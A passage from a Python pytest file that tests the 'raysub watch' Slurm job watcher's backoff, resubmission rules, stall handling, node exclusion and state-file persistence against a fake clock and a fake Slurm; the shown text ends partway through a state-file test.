"""raysub watch: the backoff, each decision, and whole runs over a fake clock and fake Slurm calls (no
sbatch, scancel or squeue runs, but for the argv tests of raysub.slurm against stand-ins on PATH)."""

import errno
import fcntl
import json
import os
import random
import re
import signal
import sys
import time
import types
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path

import pytest

from raysub import protocol, slurm, watch_rules
from raysub import watch as watching
from raysub.health.checkup import Finding, Severity
from raysub.jobs import Job
from raysub.protocol.job_index import IndexEntry, append_job_index
from raysub.protocol.logdir import LogDir
from raysub.slurm import BatchScript, SlurmState
from raysub.watch import Checkpoints, Settings, Target, load_state
from raysub.watch_files import KeptScript, WatchError, WatchFiles, kept_dir, locked
from raysub.watch_rules import LOST, STALLED, Action, Attempt, Backoff, Do, Next, Rules, WatchState, decide
from tests.conftest import RunCli
from tests.unit.test_job_poll import FakeClock

START = 1_800_000_000.0
INTERVAL = 60.0


class Edge(random.Random):
    """A random source whose uniform() always gives the lower (or the upper) end."""

    def __init__(self, upper: bool = False) -> None:
        super().__init__(0)
        self.upper = upper

    def uniform(self, a: float, b: float) -> float:
        return b if self.upper else a


# What Slurm says of each job, poll after poll (the last answer stays); for the first job, the second...
Plan = list[SlurmState]


class FakeSlurm:
    """raysub.slurm's submit, cancel and job_state, over a plan of answers for each job submitted."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, clock: FakeClock, plans: list[Plan]) -> None:
        self.clock = clock
        self.plans = list(plans)
        self.answers: dict[str, Plan] = {}
        self.submitted: list[tuple[Path, Path, dict[str, str]]] = []
        self.contents: list[bytes] = []  # what each submitted script held as sbatch read it
        self.options: list[list[str]] = []
        self.comments: dict[str, str] = {}  # comment: job id, as squeue would answer
        self.cancelled: list[str] = []
        self.asked: list[tuple[str, float]] = []
        self.calls: list[str] = []
        self.on_submit: Callable[[str], None] = lambda job_id: None
        monkeypatch.setattr(slurm, "submit", self.submit)
        monkeypatch.setattr(slurm, "cancel", self.cancel)
        monkeypatch.setattr(slurm, "job_state", self.job_state)
        monkeypatch.setattr(slurm, "job_with_comment", self.comments.get)

    def submit(
        self,
        script: Path,
        cwd: Path,
        export: dict[str, str] | None = None,
        options: Sequence[str] = (),
        timeout: float = slurm.TIMEOUT,
    ) -> str:
        job_id = str(100 + len(self.submitted))
        self.submitted.append((script, cwd, dict(export or {})))
        self.contents.append(script.read_bytes())
        self.options.append(list(options))
        comment = next(o.removeprefix("--comment=") for o in options if o.startswith("--comment="))
        self.comments[comment] = job_id
        self.calls.append(f"sbatch {job_id}")
        self.answers[job_id] = list(self.plans.pop(0))
        self.on_submit(job_id)
        return job_id

    def cancel(self, job_id: str) -> None:
        self.calls.append(f"scancel {job_id}")
        self.cancelled.append(job_id)
        self.answers[job_id] = [SlurmState("CANCELLED", 0)]

    def job_state(self, job_id: str) -> SlurmState:
        self.asked.append((job_id, self.clock.now))
        answers = self.answers.setdefault(job_id, [SlurmState(None)])
        return answers.pop(0) if len(answers) > 1 else answers[0]


RUNNING = SlurmState("RUNNING")
COMPLETED = SlurmState("COMPLETED", 0)


def ended(state: str, code: int = 1) -> SlurmState:
    return SlurmState(state, code)


def fake_clock() -> FakeClock:
    clock = FakeClock()
    clock.now = START
    return clock


@pytest.fixture
def clock() -> FakeClock:
    return fake_clock()


@pytest.fixture
def script(tmp_path: Path) -> Path:
    path = tmp_path / "job.sub"
    path.write_text("#!/bin/bash\n")
    return path


def watch(
    script: Path,
    clock: FakeClock,
    rules: Rules | None = None,
    job_id: str | None = None,
    checkpoints: Checkpoints | None = None,
    stalled: Callable[[Job], Finding | None] = watching.never_stalled,
    lines: list[str] | None = None,
) -> WatchState:
    """A whole run of ``script`` (its files beside it) with a backoff of 10 s doubling up to 100 s, at its
    lower end."""
    return watching.run(
        Target(script, script.parent, job_id), None, settings(clock, rules, checkpoints, stalled, lines)
    )


def settings(
    clock: FakeClock,
    rules: Rules | None = None,
    checkpoints: Checkpoints | None = None,
    stalled: Callable[[Job], Finding | None] = watching.never_stalled,
    lines: list[str] | None = None,
) -> Settings:
    return Settings(
        rules=rules or Rules(),
        backoff=Backoff(10, 100, Edge()),
        interval=INTERVAL,
        checkpoints=checkpoints,
        stalled=stalled,
        clock=clock.monotonic,
        sleep=clock.sleep,
        echo=(lines if lines is not None else []).append,
    )


def files_of(script: Path) -> WatchFiles:
    return WatchFiles.beside(script.parent, script)


# ---- Backoff


def test_backoff_doubles_from_base_up_to_the_maximum_with_half_of_each_delay_random() -> None:
    lowest = Backoff(10, 1000, Edge(upper=False))
    highest = Backoff(10, 1000, Edge(upper=True))
    assert [lowest.delay(n) for n in range(8)] == [10, 20, 40, 80, 160, 320, 500, 500]
    assert [highest.delay(n) for n in range(8)] == [20, 40, 80, 160, 320, 640, 1000, 1000]
    assert highest.delay(10_000) == 1000  # no overflow after many resubmissions


def test_backoff_delays_are_random_inside_their_bounds() -> None:
    backoff = Backoff(5, 300, random.Random(1))  # noqa: S311
    for attempt in range(12):
        delays = {backoff.delay(attempt) for _ in range(200)}
        ceiling = min(300, 5 * 2 ** (attempt + 1))
        assert all(max(5, ceiling / 2) <= d <= ceiling for d in delays)
        assert len(delays) > 100  # jitter: watchers that fail together do not resubmit together
    assert all(5 <= backoff.delay(n) <= 300 for n in range(100))


def test_backoff_bounds() -> None:
    assert Backoff(0, 0, Edge(upper=True)).delay(3) == 0
    assert Backoff(10, 15, Edge()).delay(0) == 10  # never below the base, even when MAX < 2 * BASE
    assert Backoff(10, 15, Edge(upper=True)).delay(0) == 15
    with pytest.raises(ValueError, match="maximum"):
        Backoff(10, 5)
    with pytest.raises(ValueError, match="maximum"):
        Backoff(-1, 5)


# ---- decide


def watched(resubmissions: int = 0, previous_quick: bool | None = None) -> WatchState:
    state = WatchState("/w/job.sub", "/w", job_id="7", resubmissions=resubmissions, next_action=Next.POLL)
    if previous_quick is not None:
        state.history.append(Attempt("6", outcome="FAILED", quick=previous_quick))
    state.history.append(Attempt("7"))
    return state


@pytest.mark.parametrize("state", ["PENDING", "CONFIGURING", "RUNNING", "COMPLETING", "REQUEUED"])
def test_a_job_that_is_on_is_waited_for(state: str) -> None:
    action = decide(watched(), state, None, None, START)
    assert (action.do, action.outcome, action.cancel) == (Do.WAIT, None, False)
    assert state in action.reason


def test_success_stops_the_run() -> None:
    action = decide(watched(), "COMPLETED", 0, START - 3600, START)
    assert action == Action(Do.STOP, "job 7 completed", outcome="COMPLETED", succeeded=True)


@pytest.mark.parametrize(
    "state", ["FAILED", "TIMEOUT", "PREEMPTED", "NODE_FAIL", "BOOT_FAIL", "OUT_OF_MEMORY"]
)
def test_failures_time_limits_preemption_and_node_failures_are_resubmitted(state: str) -> None:
    action = decide(watched(resubmissions=2), state, 1, START - 3600, START, rules=Rules(max_resubmissions=5))
    assert (action.do, action.outcome, action.succeeded) == (Do.RESUBMIT, state, False)
    assert action.reason.endswith("resubmission 3 of 5")


def test_a_completed_job_with_a_failed_driver_is_a_failure() -> None:
    action = decide(watched(), "COMPLETED", 3, None, START)
    assert (action.do, action.outcome, action.succeeded) == (Do.RESUBMIT, "COMPLETED", False)


@pytest.mark.parametrize("state", ["CANCELLED", "DEADLINE"])
def test_a_job_cancelled_outside_watch_is_not_fought(state: str) -> None:
    action = decide(watched(), state, 0, None, START)
    assert (action.do, action.outcome, action.succeeded) == (Do.STOP, state, False)
    assert "does not resubmit" in action.reason


def test_decide_cancels_a_stalled_job_then_resubmits_it() -> None:
    action = decide(watched(), "RUNNING", None, START - 600, START, stalled=True)
    assert (action.do, action.cancel, action.outcome) == (Do.RESUBMIT, True, STALLED)


def test_max_resubmissions_stops_every_kind_of_resubmission() -> None:
    rules = Rules(max_resubmissions=3)
    for state, stalled in [("FAILED", False), ("TIMEOUT", False), ("PREEMPTED", False), ("RUNNING", True)]:
        action = decide(watched(resubmissions=3), state, 1, None, START, rules=rules, stalled=stalled)
        assert (action.do, action.cancel) == (Do.STOP, stalled), state
        assert "no resubmissions left (--max-resubmissions 3)" in action.reason
    assert decide(watched(resubmissions=2), "FAILED", 1, None, START, rules=rules).do is Do.RESUBMIT


def test_no_retry_exit_codes_stop() -> None:
    rules = Rules(no_retry_exit_codes=frozenset({2, 77}))
    stop = decide(watched(), "FAILED", 77, None, START, rules=rules)
    assert (stop.do, stop.outcome) == (Do.STOP, "FAILED")
    assert "exit code 77, which --no-retry-exit-codes lists" in stop.reason
    assert decide(watched(), "FAILED", 1, None, START, rules=rules).do is Do.RESUBMIT
    assert decide(watched(), "FAILED", 77, None, START).do is Do.RESUBMIT  # the default: none


def test_two_quick_driver_failures_in_a_row_stop() -> None:
    quick = decide(watched(previous_quick=False), "FAILED", 1, START - 30, START)
    assert (quick.do, quick.quick) == (Do.RESUBMIT, True)
    second = decide(watched(previous_quick=True), "FAILED", 1, START - 30, START)
    assert (second.do, second.quick) == (Do.STOP, True)
    assert "within 60 s of its driver's start, as did the job before" in second.reason
    slow = decide(watched(previous_quick=True), "FAILED", 1, START - 61, START)
    assert (slow.do, slow.quick) == (Do.RESUBMIT, False)
    # The driver's own end counts, not when watch noticed; a driver that never started is no quick failure.
    noticed_late = decide(watched(previous_quick=True), "FAILED", 1, START - 300, START, ended=START - 290)
    assert noticed_late.do is Do.STOP
    assert decide(watched(previous_quick=True), "FAILED", 1, None, START).do is Do.RESUBMIT
    # A time limit or a preemption soon after the start is not the driver's fault.
    assert decide(watched(previous_quick=True), "PREEMPTED", 1, START - 30, START).do is Do.RESUBMIT


def test_a_job_slurm_forgets_is_waited_for_then_given_up() -> None:
    state = watched()
    assert decide(state, None, None, None, START).do is Do.WAIT
    state.unknown_since = START - 599
    assert decide(state, None, None, None, START).do is Do.WAIT
    state.unknown_since = START - 600
    lost = decide(state, None, None, None, START)
    assert (lost.do, lost.outcome) == (Do.STOP, LOST)
    assert "run raysub watch again" in lost.reason


# ---- whole runs


def test_a_run_that_succeeds_submits_once_and_asks_slurm_once_per_interval(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[SlurmState("PENDING"), RUNNING, RUNNING, COMPLETED]])
    lines: list[str] = []
    final = watch(script, clock, lines=lines)
    assert final.succeeded and final.stopped == "job 100 completed"
    assert (final.job_id, final.resubmissions, final.next_action) == (None, 0, Next.NONE)
    # What goes to sbatch is the copy of the script read at the run's start, kept in the user's state home.
    assert final.script_copy is not None
    copy = Path(final.script_copy)
    assert fake.submitted == [(copy, script.parent, {})]
    assert (copy.read_bytes(), copy.name) == (script.read_bytes(), script.name)
    assert copy.parent.parent == kept_dir()
    assert (copy.stat().st_mode & 0o777, copy.parent.stat().st_mode & 0o777) == (0o600, 0o700)
    times = [t for _, t in fake.asked]
    assert times == [START + INTERVAL * k for k in range(1, 5)]
    assert [h.outcome for h in final.history] == ["COMPLETED"]
    # Each change is logged once, with its time; the same lines are in the log file.
    assert [line.split(" ", 1)[1] for line in lines] == [
        f"a new run of {script}, submitted from {script.parent}; it submits the copy {copy}",
        f"submitted {script} as job 100",
        "job 100 is PENDING",
        "job 100 is RUNNING",
        "job 100 completed",
        "the run succeeded",
    ]
    assert lines[0].startswith(watching.stamp(START))
    assert files_of(script).log.read_text() == "".join(f"{line}\n" for line in lines)


@pytest.mark.parametrize("state", ["FAILED", "TIMEOUT", "PREEMPTED", "NODE_FAIL"])
def test_a_failed_job_is_resubmitted_after_the_backoff_and_every_job_gets_the_checkpoint_dir(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, state: str
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, RUNNING, ended(state)], [COMPLETED]])
    directory = script.parent / "ckpt"
    (directory / "step_300").mkdir(parents=True)
    (directory / "step_300" / "training_info.json").write_text("{}")
    lines: list[str] = []
    final = watch(script, clock, checkpoints=Checkpoints(directory, "DONE"), lines=lines)
    assert final.succeeded
    # Never a resume point: the directory, from which each job's head finds the newest when it starts.
    env = {protocol.CHECKPOINT_DIR_ENV: str(directory), protocol.CHECKPOINT_MARKER_ENV: "DONE"}
    assert [export for _, _, export in fake.submitted] == [env, env]
    assert all(protocol.RESUME_FROM not in export for _, _, export in fake.submitted)
    assert [(h.job_id, h.outcome) for h in final.history] == [("100", state), ("101", "COMPLETED")]
    assert final.resubmissions == 1
    # 10: the first resubmission's backoff
    assert clock.sleeps == [INTERVAL, INTERVAL, INTERVAL, 10, INTERVAL]
    # The marker DONE is in no checkpoint: none is complete yet.
    assert any("no checkpoint yet; the job resumes from the newest" in line for line in lines)


def test_without_a_checkpoint_dir_the_jobs_get_nothing(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[ended("TIMEOUT")], [COMPLETED]])
    assert watch(script, clock).succeeded
    assert [export for _, _, export in fake.submitted] == [{}, {}]


def test_a_checkpoint_lookup_that_fails_does_not_end_the_run(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(directory: Path, marker: str | None = None) -> None:
        raise OSError("stale file handle")

    module = types.ModuleType("raysub.job.lib.checkpoints")
    module.latest_checkpoint = broken  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "raysub.job.lib.checkpoints", module)
    fake = FakeSlurm(monkeypatch, clock, [[ended("TIMEOUT")], [COMPLETED]])
    lines: list[str] = []
    assert watch(script, clock, checkpoints=Checkpoints(script.parent), lines=lines).succeeded
    assert len(fake.submitted) == 2
    assert any("stale file handle" in line for line in lines)


def test_max_resubmissions_is_respected(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    failing = [RUNNING, RUNNING, RUNNING, ended("FAILED")]
    fake = FakeSlurm(monkeypatch, clock, [failing] * 5)
    final = watch(script, clock, Rules(max_resubmissions=2))
    assert not final.succeeded
    assert len(fake.submitted) == 3 and final.resubmissions == 2
    assert "no resubmissions left (--max-resubmissions 2)" in (final.stopped or "")
    assert [s for s in clock.sleeps if s != INTERVAL] == [10, 20]  # the backoff doubles
    assert [h.outcome for h in final.history] == ["FAILED"] * 3


def test_a_stalled_job_is_cancelled_then_resubmitted(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING], [COMPLETED]])
    (script.parent / "100-logs").mkdir()  # the stall check reads the job's LOG_DIR
    checked: list[str] = []

    def stalled(job: Job) -> Finding | None:
        checked.append(job.job_id)
        return STALL if job.job_id == "100" and len(checked) >= 2 else None

    final = watch(script, clock, stalled=stalled)
    assert final.succeeded
    assert fake.calls == ["sbatch 100", "scancel 100", "sbatch 101"]
    assert [h.outcome for h in final.history] == [STALLED, "COMPLETED"]
    assert checked == ["100", "100"]  # asked only of a RUNNING job whose LOG_DIR is there


STALL = Finding(Severity.ERROR, "stall", "no new step and no output for 1900 s")
SLOW = Finding(
    Severity.WARNING, "slow_step", "step 12 has taken 2 h, 10 times the median step", line="step 12"
)


def test_a_slow_step_is_said_once_and_waited_out(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, RUNNING, RUNNING, COMPLETED]])
    (script.parent / "100-logs").mkdir()
    lines: list[str] = []
    looks: list[Finding] = []

    def slow(job: Job) -> Finding:
        # As slow_step_finding: the reason counts the seconds the step has taken, so it changes every look.
        looks.append(replace(SLOW, reason=f"{SLOW.reason} ({len(looks)} looks)"))
        return looks[-1]

    final = watch(script, clock, stalled=slow, lines=lines)
    assert final.succeeded and fake.calls == ["sbatch 100"] and len(looks) >= 2
    assert [line.partition(" ")[2] for line in lines if "warning" in line] == [
        f"warning: job 100: {looks[0].reason}"
    ]


def test_a_failed_cancel_asks_slurm_again_rather_than_submit_a_second_job(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, RUNNING, ended("TIMEOUT")], [COMPLETED]])
    (script.parent / "100-logs").mkdir()

    def cancel(job_id: str) -> None:
        raise slurm.SlurmError("scancel: Unable to contact slurm controller")

    monkeypatch.setattr(slurm, "cancel", cancel)
    lines: list[str] = []
    final = watch(script, clock, stalled=lambda job: STALL, lines=lines)
    # Job 100 stays, stalled, until it ends by itself: only then is the script submitted again.
    assert sum("could not cancel job 100" in line for line in lines) == 2
    assert [h.outcome for h in final.history] == ["TIMEOUT", "COMPLETED"]
    assert fake.calls == ["sbatch 100", "sbatch 101"] and final.succeeded


def test_no_retry_exit_codes_end_the_run(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, RUNNING, ended("FAILED", 2)]])
    final = watch(script, clock, Rules(no_retry_exit_codes=frozenset({2})))
    assert not final.succeeded and len(fake.submitted) == 1
    assert final.history[0].exit_code == 2


def driver_runs(base: Path, job_id: str, start: float, seconds: float, code: int) -> None:
    """The job's LOG_DIR as the batch script leaves it: the driver's start and end, and its exit code."""
    logs = LogDir.of(base, job_id)
    logs.path.mkdir()
    events = [(start, protocol.PHASE_DRIVER_START), (start + seconds, protocol.PHASE_DRIVER_END)]
    text = "".join(protocol.TimelineEvent(t, phase, "node1", "").line() for t, phase in events)
    logs.file(protocol.TIMELINE).write_text(text)
    logs.write_driver_exit_code(code)


def test_two_quick_failures_in_a_row_end_the_run(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The job's exit code says 1; its driver's (from LOG_DIR) says 3, and counts.
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED", 1)]] * 3)
    fake.on_submit = lambda job_id: driver_runs(script.parent, job_id, clock.now + 20, 15, 3)
    final = watch(script, clock)
    assert len(fake.submitted) == 2
    assert [(h.quick, h.exit_code) for h in final.history] == [(True, 3), (True, 3)]
    assert "as did the job before: it will fail again" in (final.stopped or "")


def test_a_quick_failure_after_a_long_run_is_resubmitted(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED")]] * 3 + [[COMPLETED]])
    seconds = iter([15, 3600, 15])
    fake.on_submit = lambda job_id: (
        driver_runs(script.parent, job_id, clock.now + 1, next(seconds), 1) if job_id != "103" else None
    )
    final = watch(script, clock)
    assert final.succeeded and len(fake.submitted) == 4
    assert [h.quick for h in final.history] == [True, False, True, False]


def job_log_dir(base: Path, job_id: str, events: list[tuple[float, str, str]], **files: str) -> None:
    """A job's LOG_DIR with these timeline events (time, phase, detail) and files (name: content)."""
    logs = LogDir.of(base, job_id)
    logs.path.mkdir()
    text = "".join(protocol.TimelineEvent(t, phase, "node1", detail).line() for t, phase, detail in events)
    logs.file(protocol.TIMELINE).write_text(text)
    for name, content in files.items():
        logs.file(name).write_text(content)


def test_a_driver_that_fails_at_once_after_in_allocation_restarts_is_quick(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    # --driver-restarts 2: three runs of a driver that dies with NameError at once, 200 s of backoffs
    # between them. Measured from the job's first driver start the job took 200 s; its last run, 2 s.
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED", 1)]] * 4)

    def name_error(job_id: str) -> None:
        t = clock.now + 10
        job_log_dir(
            script.parent,
            job_id,
            [
                (t, protocol.PHASE_DRIVER_START, ""),
                (t + 62, protocol.PHASE_DRIVER_RESTART, "run 1 after exit status 1"),
                (t + 184, protocol.PHASE_DRIVER_RESTART, "run 2 after exit status 1"),
                (t + 186, protocol.PHASE_DRIVER_END, "1"),
            ],
            **{
                protocol.DRIVER_LOG: "Traceback (most recent call last):\n",
                protocol.driver_log_name(1): "Traceback (most recent call last):\n",
                protocol.driver_log_name(2): LAST_RUN,
            },
        )

    fake.on_submit = name_error
    final = watch(script, clock)
    assert len(fake.submitted) == 2, "submitted at most twice"
    assert [h.quick for h in final.history] == [True, True]
    assert "it will fail again" in (final.stopped or "")
    assert "NameError: name 'modle' is not defined" in (final.stopped or ""), final.stopped


def test_an_early_driver_that_fails_before_the_cluster_is_whole_is_a_quick_driver_fault(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The default render starts a python driver as the head gets ready; one that dies at import ends the
    # job before the cluster is whole: driver_end, and no driver_start, on the timeline.
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED", 1)]] * 4)

    def name_error(job_id: str) -> None:
        t = clock.now + 10
        job_log_dir(
            script.parent,
            job_id,
            [(t, protocol.PHASE_HEAD_READY, "198.18.0.11:6379"), (t + 2, protocol.PHASE_DRIVER_END, "1")],
            **{protocol.DRIVER_LOG: LAST_RUN},
        )

    fake.on_submit = name_error
    final = watch(script, clock, Rules(max_resubmissions=10))
    assert len(fake.submitted) == 2, "submitted at most twice"
    assert [(h.fault, h.quick) for h in final.history] == [(watch_rules.FAULT_DRIVER, True)] * 2
    assert "NameError: name 'modle' is not defined" in (final.stopped or ""), final.stopped


LAST_RUN = (
    "Traceback (most recent call last):\n"
    '  File "/home/me/train.py", line 3, in <module>\n'
    "    modle.fit()\n"
    "NameError: name 'modle' is not defined\n"
)


def test_jobs_whose_cluster_never_came_up_are_counted_apart_and_three_in_a_row_stop(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED", 1)]] * 5)
    why = "head on node1: Ray did not start after 3 attempts; see ray-head.log"
    fake.on_submit = lambda job_id: job_log_dir(
        script.parent, job_id, [(clock.now + 5, protocol.PHASE_ENDED, why)], **{protocol.ENDED: why + "\n"}
    )
    final = watch(script, clock, Rules(max_resubmissions=10))
    assert len(fake.submitted) == 3
    assert [(h.fault, h.quick) for h in final.history] == [(watch_rules.FAULT_BRING_UP, False)] * 3
    assert "3 jobs in a row that never started their driver" in (final.stopped or "")
    assert f"the last job's ENDED: {why}" in (final.stopped or ""), final.stopped


@pytest.mark.parametrize("finished", [False, True])
def test_a_driver_that_exits_0_after_the_warning_signal_is_interrupted_unless_it_said_finished(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch, finished: bool
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, COMPLETED], [COMPLETED]])
    files = {protocol.SIGNAL_DELIVERED: "USR1\n", **({protocol.DRIVER_FINISHED: ""} if finished else {})}
    fake.on_submit = lambda job_id: (
        job_log_dir(script.parent, job_id, [(clock.now + 5, protocol.PHASE_DRIVER_START, "")], **files)
        if job_id == "100"
        else None
    )
    final = watch(script, clock)
    assert final.succeeded
    if finished:
        assert [h.outcome for h in final.history] == ["COMPLETED"]
    else:
        assert [h.outcome for h in final.history] == [watch_rules.INTERRUPTED, "COMPLETED"]
        assert final.resubmissions == 1


def test_a_node_the_job_names_as_failed_is_left_out_of_the_next_jobs(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    script.write_text("#!/bin/bash\n#SBATCH --nodes=3\n#SBATCH --exclude=node9\nset -e\n#SBATCH -x ignored\n")
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, ended("FAILED", 1)]] * 3 + [[COMPLETED]])
    failed = iter(["node3", "node3", "node4"])
    fake.on_submit = lambda job_id: (
        job_log_dir(
            script.parent,
            job_id,
            [
                (clock.now + 5, protocol.PHASE_DRIVER_START, ""),
                (clock.now + 900, protocol.PHASE_NODE_FAILED, f"{node}: Ray exited with status 1"),
            ],
        )
        if (node := next(failed, None))
        else None
    )
    lines: list[str] = []
    final = watch(script, clock, Rules(max_excluded=1), lines=lines)
    assert final.succeeded and final.excluded == ["node3"]
    excludes = [[o for o in options if o.startswith("--exclude")] for options in fake.options]
    # The script's own exclusion is kept: sbatch's --exclude would replace it.
    assert excludes == [["--exclude=node9"]] + [["--exclude=node9,node3"]] * 3
    assert [h.failed_nodes for h in final.history] == [["node3"], ["node3"], ["node4"], []]
    assert any("not leaving out node4: --max-excluded 1" in line for line in lines)
    assert any("leaving out node3" in line for line in lines if "submitted" in line)


def test_an_sbatch_that_timed_out_after_queueing_the_job_leaves_one_job_watched(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, COMPLETED]])
    real_submit = fake.submit

    def queued_then_hung(*args: object, **kwargs: object) -> str:
        real_submit(*args, **kwargs)  # type: ignore[arg-type]
        raise slurm.SlurmError("sbatch: no answer in 30 s (timed out)")

    monkeypatch.setattr(slurm, "submit", queued_then_hung)
    lines: list[str] = []
    final = watch(script, clock, lines=lines)
    assert final.succeeded and [h.job_id for h in final.history] == ["100"]
    assert len(fake.submitted) == 1 and final.resubmissions == 0
    assert any("job 100 carries this submission's comment raysub-watch-" in line for line in lines)


def test_a_watcher_stopped_while_sbatch_hangs_leaves_its_successor_the_job(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[RUNNING, COMPLETED]])
    real_submit = fake.submit

    def queued_then_stopped(*args: object, **kwargs: object) -> str:
        real_submit(*args, **kwargs)  # type: ignore[arg-type]
        raise Interrupt  # the user's Ctrl-C, or a login session closed, while sbatch had not answered

    monkeypatch.setattr(slurm, "submit", queued_then_stopped)
    with pytest.raises(Interrupt):
        watch(script, clock)
    monkeypatch.setattr(slurm, "submit", real_submit)
    final = watch(script, clock)
    assert final.succeeded and [h.job_id for h in final.history] == ["100"]
    assert len(fake.submitted) == 1, "the job the first sbatch queued was adopted, not submitted again"


def test_a_comment_found_only_on_the_next_try_is_adopted_then(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The controller queued the job after sbatch gave up, and after watch first asked.
    fake = FakeSlurm(monkeypatch, clock, [[COMPLETED]])
    comments: list[str] = []

    def slow(script: Path, cwd: Path, export: object, options: Sequence[str], timeout: float) -> str:
        comments.append(options[0])
        raise slurm.SlurmError(
            "sbatch: error: Batch job submission failed: Socket timed out on send/recv operation"
        )

    def asked(comment: str) -> str | None:
        if len(comments) == 1 and clock.now > START:
            return "77"
        return None

    monkeypatch.setattr(slurm, "submit", slow)
    monkeypatch.setattr(slurm, "job_with_comment", asked)
    fake.answers["77"] = [COMPLETED]
    final = watch(script, clock)
    assert final.succeeded and [h.job_id for h in final.history] == ["77"] and len(comments) == 1


def test_a_failed_resubmission_uses_up_none_and_is_tried_again(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[ended("NODE_FAIL")], [COMPLETED]])
    real_submit = fake.submit
    refusals = iter([slurm.SlurmError("sbatch: error: Slurm temporarily unable to accept job")])

    def flaky(script: Path, cwd: Path, *args: object, **kwargs: object) -> str:
        if len(fake.submitted) == 1 and (refusal := next(refusals, None)) is not None:
            raise refusal
        return real_submit(script, cwd, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(slurm, "submit", flaky)
    lines: list[str] = []
    final = watch(script, clock, Rules(max_resubmissions=1), lines=lines)
    assert final.succeeded and final.resubmissions == 1
    assert any("could not submit" in line and "Slurm temporarily unable" in line for line in lines)
    assert [s for s in clock.sleeps if s != INTERVAL] == [10, 10]  # the resubmission's backoff, the retry's


def test_submissions_that_keep_failing_end_the_run_after_submit_retry_for(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    fake = FakeSlurm(monkeypatch, clock, [[ended("NODE_FAIL")]])
    tries: list[float] = []

    def first_then_down(script: Path, cwd: Path, *args: object, **kwargs: object) -> str:
        if not fake.submitted:
            return fake.submit(script, cwd, *args, **kwargs)  # type: ignore[arg-type]
        tries.append(clock.now)
        raise slurm.SlurmError(
            "sbatch: error: Batch job submission failed: Unable to contact slurm controller"
        )

    monkeypatch.setattr(slurm, "submit", first_then_down)
    final = watch(script, clock, Rules(max_resubmissions=1, submit_retry_for=600))
    assert not final.succeeded and final.resubmissions == 0
    assert "(--submit-retry-for)" in (final.stopped or "")
    assert tries[-1] - tries[0] >= 600 and len(tries) > 3


def test_a_first_submission_that_fails_is_an_error(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: object) -> str:
        raise slurm.SlurmError("sbatch: error: invalid partition specified: gpu")

    monkeypatch.setattr(slurm, "submit", refuse)
    with pytest.raises(WatchError, match=r"could not submit .*invalid partition"):
        watch(script, clock)


def test_a_job_slurm_stops_knowing_ends_the_run(
    script: Path, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    FakeSlurm(monkeypatch, clock, [[RUNNING, SlurmState(None)]])
    final = watch(script, clock, Rules(lost_after=300))
    assert not final.succeeded and final.history[0].outcome == LOST
    assert clock.now == START + INTERVAL * 7  # unknown from the 2nd question on, 300 s later given up


# ---- the state file, resuming, adopting, the lock


def test_the_state_file_round_trips(script: Path) -> None:
    state = WatchState(
        str(script),
        str(script.parent),
        job_id="101",
        resubmissions=1,
        next_action=Next.POLL,
        next_action_at=START + 60,
        unknown_since=START,
        watcher="12@login1",
        excluded=["node7"],
        history=[
            Attempt("100", START - 900, None, START - 850, START - 100, "TIMEOUT", 0, False, None, ["node7"]),
            Attempt("101", START - 30, "/ckpt/step-9"),
        ],
    )
    text = state.to_json()
    assert WatchState.from_json(text) == state
    data = json.loads(text)
    assert (data["version"], data["job_id"], data["next_action"]) == (3, "101", "poll")
    assert data["resubmissions"] == 1 and "restarts" not in data
    assert data["excluded"] == ["node7"]
    assert data["history"][0] == {
        "job_id": "100",
        "submitted_at": START - 900,
        "resume_from": None,
        "started_at": START - 850,
